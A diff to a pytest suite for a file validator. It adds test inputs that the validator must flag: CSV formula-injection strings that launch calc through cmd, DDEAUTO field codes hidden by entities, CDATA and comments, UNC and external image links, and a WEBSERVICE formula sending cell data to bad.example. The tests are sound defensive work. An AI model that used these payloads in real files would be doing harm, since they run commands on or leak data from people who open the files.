@@ -5,6 +5,7 @@ from __future__ import annotations
 import datetime
 import io
 import zipfile
+from xml.sax.saxutils import escape
 
 import pikepdf
 import pytest
@@ -78,6 +79,9 @@ def test_what_shows_what_was_done_is_taken(data: bytes, name: str, kept: str, me
         ("ชื่อ,=cmd|' /C calc'!A0\n".encode(), "a.csv", "evidence.formula"),
         (b"a,-cmd|'/C calc'!A0\n", "a.csv", "evidence.formula"),
         (b'"a","@SUM(A1)"\n', "a.csv", "evidence.formula"),
+        (b"sep=|\na|=1+1\n", "a.csv", "evidence.formula"),
+        ("ชื่อ,คน\t=1+1\n".encode("utf-16"), "a.csv", "evidence.formula"),
+        ("ชื่อ,＝1+1\n".encode(), "a.csv", "evidence.formula"),
         (b"%PDF-1.7\nnot really", "a.pdf", "evidence.damaged"),
         (files.jpeg()[:-20], "a.jpg", "evidence.damaged"),
         (files.png()[:-6], "a.png", "evidence.damaged"),
@@ -166,7 +170,7 @@ def test_a_link_to_be_clicked_is_no_harm(target: str) -> None:
         (files.open_document(**{"Basic/Standard/a.xml": "<a/>"}), "evidence.macros"),
         (files.open_document(**{"Scripts/python/a.py": "x"}), "evidence.macros"),
         (files.open_document(**{"Object 1": "x"}), "evidence.embedded"),
-        (files.open_document(**{"styles.xml": '<draw:image xlink:href="https://bad.example/a.png"/>'}), "evidence.external"),
+        (files.open_document(**{"styles.xml": "<draw:image xlink:href='https://bad.example/a.png'/>"}), "evidence.damaged"),
         (files.with_part(files.excel(), "xl/externalLinks/externalLink1.xml", "<a/>"), "evidence.external"),
         (files.with_part(files.excel(), "xl/macrosheets/sheet1.xml", "<a/>"), "evidence.macros"),
         (files.archive({f"{number}.xml": "" for number in range(3_001)}), "evidence.inflates"),
@@ -182,6 +186,64 @@ def test_other_office_files_are_held_to_the_same(data: bytes, problem: str) -> N
         examine(data, "a.odt")
 
     assert {each.id for each in caught.value.problems} == {problem}
+
+
+W = 'xmlns:w="w"'
+IMAGE = """<{0}:image xmlns:{0}="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:x="x" x:href{1}/>"""
+RUN = "<w:instrText>{}</w:instrText>"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "<w:fldSimple w:instr='DDEAUTO c:\\cmd'/>",
+        RUN.format("D&#68;EAUTO c:\\cmd"),
+        RUN.format("<![CDATA[DDEAUTO c:\\cmd]]>"),
+        RUN.format("D<!-- -->DEAUTO c:\\cmd"),
+        RUN.format("QUOTE 68 68 69 65 85 84 79"),
+        "<a-b:instrText xmlns:a-b='w'>INCLUDEPICTURE</a-b:instrText>",
+        "<v:imagedata xmlns:v='v' src='\\\\server\\share\\a.png'/>",
+        IMAGE.format("draw", "='https://bad.example/a.png'"),
+        IMAGE.format("d", ' = "&#104;ttps://bad.example/a.png"'),
+        "<row><c><f>cmd|'/C calc'!A0</f></c></row>",
+        '<row><c><f>WEBSERVICE("https://bad.example/"&amp;A1)</f></c></row>',
+    ],
+)
+def test_what_fetches_or_runs_is_found_however_it_is_written(written: str) -> None:
+    for encoding in ("utf-8", "utf-16"):
+        part = f'<?xml version="1.0" encoding="{encoding}"?><w:document {W}>{written}</w:document>'.encode(
+            encoding
+        )
+        # A document names its main part itself, so that any part may be it.
+        for office, name in ((files.word(), "other/part.xml"), (files.open_document(), "content.xml")):
+            data = files.with_part(office, name, part)
+            with pytest.raises(InputError) as caught:
+                examine(data, "a.docx")
+            assert {each.id for each in caught.value.problems} == {"evidence.external"}
+
+
+@pytest.mark.parametrize("target", ["\\\\server\\share\\a.png", "//server/a.png", "file:a.png"])
+def test_a_part_that_is_said_to_be_within_is_within(target: str) -> None:
+    part = files.relation("image", target, "Internal")
+    with pytest.raises(InputError) as caught:
+        examine(files.with_part(files.word(), "word/_rels/other.xml.rels", part), "a.docx")
+
+    assert {each.id for each in caught.value.problems} == {"evidence.external"}
+
+
+@pytest.mark.parametrize(
+    "repeated", ["<w:instrText ", "INFO ", "<dataBinding ", '<draw:image x:href="', "<absPath "]
+)
+def test_a_part_is_gone_over_once_whatever_it_repeats(repeated: str) -> None:
+    # Backtracking would take days; a megabyte is read at once.
+    words = repeated * (900_000 // len(repeated))
+    for body in (words, f"<w:instrText>{words.replace('<', '')}"):
+        document = f"<w:document {W}>{body}"
+        with pytest.raises(InputError) as caught:
+            examine(files.with_part(files.word(), "word/document.xml", document), "a.docx")
+        assert {each.id for each in caught.value.problems} == {"evidence.damaged"}
+    whole = f"<w:document {W}><w:p>{escape(words)}</w:p></w:document>"
+    assert examine(files.with_part(files.word(), "word/document.xml", whole), "a.docx").name == "a.docx"
 
 
 def test_everything_that_is_wrong_is_told_at_once() -> None:
